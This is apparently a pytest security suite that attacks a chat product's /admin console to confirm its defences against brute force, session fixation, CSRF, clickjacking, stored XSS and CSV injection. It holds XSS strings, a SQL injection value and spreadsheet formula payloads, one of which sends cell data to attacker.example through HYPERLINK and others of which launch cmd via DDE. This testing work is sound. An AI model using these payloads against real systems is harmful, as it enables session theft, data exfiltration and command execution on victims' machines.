"""console: the operator console at ``/admin`` attacked.

Login attempts are rate-limited per client address (a forged ``X-Forwarded-For`` changes
nothing); a login always issues a fresh session cookie (a cookie planted before it is not
honoured after); every POST needs its form's CSRF token and the console's own origin; no page
may be framed; visitor text (messages, titles, the user, the page's URL and title) is inert in
every page, checked in Chromium; exports are downloads, and no CSV cell starts with a character
a spreadsheet reads as a formula.
"""

from __future__ import annotations

import csv
import io
import json
import uuid
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import pytest
from playwright.sync_api import Browser

from tests.security.browser import SETTLE, TRAPS, _browser  # noqa: F401 (fixture)
from tests.security.harness import Resp, Server, check, post_json
from tests.security.payloads import R_PAYLOADS
from tests.security.surfaces import (  # noqa: F401 (fixtures)
    PASSWORD,
    Console,
    Servers,
    _console,
    _surfaces,
    _surfaces_db,
    answered,
    say,
    token,
)
from tests.waiting import wait_until

COOKIE = "chatbubble_admin"


def page_check(resp: Resp, what: str) -> Resp:
    return check(resp, what=what, page=True)


# -- brute force ---------------------------------------------------------------------------------


@pytest.fixture(scope="module", name="limited")
def _limited(servers: Servers) -> Server:
    return servers("echo", "--admin-password", PASSWORD, "--login-rate-limit", "5")


def test_login_brute_force_is_rate_limited(limited: Server) -> None:
    statuses = []
    for attempt in range(8):
        console = Console(limited)
        forged = {"X-Forwarded-For": f"10.0.0.{attempt}", "X-Real-IP": f"10.1.0.{attempt}"}
        resp = page_check(console.log_in(f"guess number {attempt}", forged), "guess")
        statuses.append(resp.status)
    assert statuses[:5] == [401] * 5, statuses
    assert statuses[5:] == [429] * 3, statuses
    right = Console(limited)
    resp = page_check(right.log_in(PASSWORD), "the right password while limited")
    assert resp.status == 429 and "retry-after" in resp.headers
    assert COOKIE not in right.cookies  # not even the right password opens it now


# -- session fixation and cookies ---------------------------------------------------------------


def test_a_cookie_planted_before_login_is_not_honoured(surfaces: Server) -> None:
    console = Console(surfaces)
    console.cookies[COOKIE] = "attacker-chosen-value"
    assert page_check(console.send("GET", "/admin"), "planted").status == 303
    resp = console.log_in()
    assert resp.status == 303
    assert console.cookies[COOKIE] != "attacker-chosen-value"


def test_every_login_is_a_fresh_session(surfaces: Server) -> None:
    """Two logins (in the same second, most likely) never share a session cookie."""
    first, second = Console(surfaces), Console(surfaces)
    assert first.log_in().status == 303 and second.log_in().status == 303
    assert first.cookies[COOKIE] != second.cookies[COOKIE]


def test_the_session_cookie_is_httponly_strict_and_scoped(surfaces: Server) -> None:
    console = Console(surfaces)
    resp = console.log_in()
    line = next(c for c in resp.set_cookies if c.startswith(COOKIE + "="))
    lowered = line.lower()
    assert "httponly" in lowered and "samesite=strict" in lowered and "path=/admin" in lowered


@pytest.mark.parametrize(
    "value",
    ["", "x", "a.b.c", "admin", "' OR 1=1 --", "%00", "A" * 5000],
    ids=["empty", "short", "dots", "admin", "sql", "nul", "long"],
)
def test_a_forged_session_cookie_opens_nothing(value: str, surfaces: Server) -> None:
    console = Console(surfaces)
    console.cookies[COOKIE] = value
    for path in ("/admin", "/admin/transcripts", "/admin/export.csv"):
        resp = page_check(console.send("GET", path), f"forged cookie {path}")
        assert resp.status in (303, 401), (path, resp.status)


# -- CSRF ------------------------------------------------------------------------------------


@pytest.fixture(name="victim")
def _victim(surfaces: Server) -> str:
    """A conversation the CSRF cases try to delete."""
    cid = f"victim-{uuid.uuid4().hex[:10]}"
    assert answered(say(surfaces, "please keep me", token("user-victim"), session=cid))
    return cid


def transcript_exists(console: Console, cid: str) -> bool:
    return console.send("GET", f"/admin/transcript?id={cid}").status == 200


CSRF_CASES: dict[str, tuple[str, dict[str, str]]] = {
    "no-token": ("form", {}),
    "empty-token": ("form", {"csrf": ""}),
    "wrong-token": ("form", {"csrf": "A" * 43}),
    "another-sessions-token": ("other", {}),
    "login-form-token": ("login", {}),
    "cross-origin": ("origin", {}),
    "null-origin": ("null", {}),
    "text-plain": ("text", {}),
    "json": ("json", {}),
}


@pytest.mark.parametrize("route", ["/admin/delete", "/admin/logout"])
@pytest.mark.parametrize("case", list(CSRF_CASES), ids=list(CSRF_CASES))
def test_every_post_needs_its_csrf_token(
    case: str, route: str, console: Console, surfaces: Server, victim: str
) -> None:
    wait_until(lambda: transcript_exists(console, victim), "the victim's conversation stored")
    kind, extra = CSRF_CASES[case]
    form = {"id": victim, **extra}
    headers: dict[str, str] = {}
    if kind == "other":
        other = Console(surfaces)
        assert other.log_in().status == 303
        form["csrf"] = other.csrf("/admin/transcripts")
    elif kind == "login":
        form["csrf"] = Console(surfaces).csrf("/admin/login")
    elif kind in ("origin", "null", "text", "json"):
        form["csrf"] = console.csrf("/admin/transcripts")
        if kind == "origin":
            headers["Origin"] = "https://attacker.example"
        elif kind == "null":
            headers["Origin"] = "null"
        elif kind == "text":
            headers["Content-Type"] = "text/plain"
        else:
            headers["Content-Type"] = "application/json"
    resp = page_check(console.send("POST", route, form, headers), f"{case} {route}")
    assert resp.status in (403, 415), (resp.status, resp.text[:200])
    assert transcript_exists(console, victim), "the conversation was deleted"
    assert console.send("GET", "/admin").status == 200, "the session was closed"


def test_login_needs_its_form_token(surfaces: Server) -> None:
    console = Console(surfaces)
    resp = page_check(
        console.send("POST", "/admin/login", {"password": PASSWORD}), "login without token"
    )
    assert resp.status == 403 and COOKIE not in console.cookies
    resp = page_check(
        console.send("POST", "/admin/login", {"password": PASSWORD, "csrf": "B" * 43}),
        "login with a made-up token",
    )
    assert resp.status == 403 and COOKIE not in console.cookies


def test_the_delete_confirmation_page_deletes_nothing(console: Console, victim: str) -> None:
    wait_until(lambda: transcript_exists(console, victim), "the victim's conversation stored")
    assert page_check(console.send("GET", f"/admin/delete?id={victim}"), "confirm").status == 200
    assert transcript_exists(console, victim)


# -- clickjacking -----------------------------------------------------------------------------

PAGES = ["/admin/login", "/admin", "/admin/transcripts", "/admin/transcript", "/admin/delete"]


@pytest.mark.parametrize("path", PAGES, ids=[p.rsplit("/", 1)[-1] or "admin" for p in PAGES])
def test_no_console_page_may_be_framed(path: str, console: Console, victim: str) -> None:
    wait_until(lambda: transcript_exists(console, victim), "the victim's conversation stored")
    if path in ("/admin/transcript", "/admin/delete"):
        path += f"?id={victim}"
    viewer = Console(console.server) if path == "/admin/login" else console
    resp = page_check(viewer.send("GET", path), path)
    assert resp.status == 200, resp.status
    assert "frame-ancestors 'none'" in resp.headers.get("content-security-policy", "")
    assert resp.headers.get("x-frame-options") == "DENY"


# -- stored XSS ---------------------------------------------------------------------------------

XSS_KEYS = [key for key in R_PAYLOADS if len(R_PAYLOADS[key]) < 4000]
HOSTILE_SUB = "<img src=x onerror=alert('sub')>"
HOSTILE_URL = 'https://shop.example/?q=%3Cscript%3Ealert(1)%3C/script%3E&x="><svg onload=alert(2)>'
HOSTILE_TITLE = "</title><script>alert('title')</script>"


@pytest.fixture(scope="module", name="hostile")
def _hostile(surfaces: Server) -> str:
    """One conversation whose every turn is a payload of ATTACKS.md §7, from a user whose name
    and page are hostile too."""
    cid = f"xss-{uuid.uuid4().hex[:10]}"
    page = {"url": HOSTILE_URL, "title": HOSTILE_TITLE}
    for key in XSS_KEYS:
        resp = say(surfaces, R_PAYLOADS[key], token(HOSTILE_SUB), session=cid, page=page)
        assert resp.status in (200, 422), (key, resp.status)
    return cid


CONSOLE_CHECK = """() => {
  const bad = [];
  for (const node of document.querySelectorAll("*")) {
    for (const attr of node.attributes) {
      const name = attr.name.toLowerCase(), value = attr.value.trim().toLowerCase();
      if (name.startsWith("on")) bad.push(node.tagName + " " + name);
      if (node.tagName === "LINK" && value === "data:,") continue; // the empty icon
      if (["href", "src", "action", "formaction", "xlink:href", "data"].includes(name)
          && /^(javascript|vbscript|data):/.test(value)) bad.push(node.tagName + " " + name);
    }
    if (["IFRAME", "OBJECT", "EMBED", "BASE", "FRAME"].includes(node.tagName))
      bad.push(node.tagName);
    if (node.tagName === "SCRIPT" && !node.nonce && node.type !== "application/json")
      bad.push("script without the nonce");
  }
  for (const node of document.querySelectorAll("*")) {
    for (const type of ["mouseover", "focus", "load", "error", "toggle", "animationstart"])
      node.dispatchEvent(new Event(type));
  }
  return bad;
}"""
VIOLATIONS = """
document.addEventListener("securitypolicyviolation",
  (e) => window.__xss.push("csp:" + e.violatedDirective + " " + e.blockedURI));
"""


@pytest.fixture(scope="module", name="operator")
def _operator(browser: Browser, surfaces: Server) -> Iterator[Any]:
    context = browser.new_context()
    context.add_init_script(TRAPS + VIOLATIONS)
    page = context.new_page()
    page.goto(surfaces.url + "/admin/login")
    page.fill("input[name=password]", PASSWORD)
    page.press("input[name=password]", "Enter")
    page.wait_for_url("**/admin")
    yield page
    context.close()


XSS_PAGES = {
    "list": "/admin/transcripts",
    "list-searched": "/admin/transcripts?q=" + quote("<script>alert('q')</script>"),
    "list-by-user": "/admin/transcripts?user=" + quote(HOSTILE_SUB),
    "list-by-page": "/admin/transcripts?page_url=" + quote('"><svg onload=alert(3)>'),
    "transcript": "/admin/transcript?id={cid}",
    "delete-confirmation": "/admin/delete?id={cid}",
    "overview": "/admin",
}


@pytest.mark.parametrize("name", list(XSS_PAGES), ids=list(XSS_PAGES))
def test_visitor_text_is_inert_in_console_pages(
    name: str, operator: Any, hostile: str, console: Console
) -> None:
    from tests.security.harness import FIGURES

    wait_until(lambda: transcript_exists(console, hostile), "the hostile conversation stored")
    operator.goto(console.server.url + XSS_PAGES[name].format(cid=hostile))
    operator.evaluate(SETTLE)
    bad = operator.evaluate(CONSOLE_CHECK)
    operator.evaluate(SETTLE)
    fired = operator.evaluate("window.__xss.splice(0)")
    FIGURES.xss_checks += 1
    FIGURES.xss_fired.extend(f"{FIGURES.current}: {item}" for item in fired)
    assert bad == [] and fired == [], (bad, fired)
    if name == "transcript":
        assert "onerror=alert(1)" in operator.content().replace("&lt;", "<")  # shown as text


def test_exports_are_downloads_never_pages(hostile: str, console: Console) -> None:
    wait_until(lambda: transcript_exists(console, hostile), "the hostile conversation stored")
    for fmt in ("csv", "jsonl"):
        resp = page_check(console.send("GET", f"/admin/export.{fmt}"), fmt)
        assert resp.status == 200
        assert resp.headers["content-disposition"].startswith("attachment;")
        assert "html" not in resp.headers["content-type"]
        assert resp.headers.get("x-content-type-options") == "nosniff"
    lines = console.send("GET", "/admin/export.jsonl").text.splitlines()
    assert all(json.loads(line) is not None for line in lines)  # each line data, never markup


FORMULAS = {
    "equals": '=HYPERLINK("https://attacker.example/?"&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3+cmd|' /C calc'!A0",
    "at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "tab": "\t=1+1",
    "carriage-return": "\r=1+1",
    "dde": "=cmd|' /C notepad'!'A1'",
}


@pytest.fixture(scope="module", name="formulas")
def _formulas(surfaces: Server) -> str:
    cid = f"csv-{uuid.uuid4().hex[:10]}"
    for text in FORMULAS.values():
        resp = say(surfaces, text, token("=1+1"), session=cid, page={"title": "@SUM(1)"})
        assert answered(resp), resp.text[:200]
    return cid


@pytest.mark.parametrize("key", list(FORMULAS), ids=list(FORMULAS))
def test_csv_cells_are_never_formulas(key: str, formulas: str, console: Console) -> None:
    needle = FORMULAS[key].strip()[1:12]

    def exported() -> list[list[str]] | None:
        """The export of the formulas' user, once it holds this message (stored in the
        background after the answer)."""
        resp = console.send("GET", "/admin/export.csv?user=" + quote("=1+1"))
        table = list(csv.reader(io.StringIO(resp.text)))
        found = any(needle in cell for row in table for cell in row)
        return table if found else None

    table = wait_until(exported, f"the {key} message in the export")
    cells = [cell for row in table for cell in row]
    assert any(needle in cell for cell in cells), needle
    for cell in cells:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), repr(cell)


def test_a_visitor_cannot_reach_the_console_with_their_token(surfaces: Server) -> None:
    """The host site's visitor token is no console login."""
    value = token("admin")
    for path in ("/admin", "/admin/export.csv"):
        resp = page_check(
            post_json(surfaces, path, {}, {"X-Chatbubble-User": value, "Cookie": ""}), path
        )
        assert resp.status in (303, 401, 403, 404, 405), (path, resp.status)
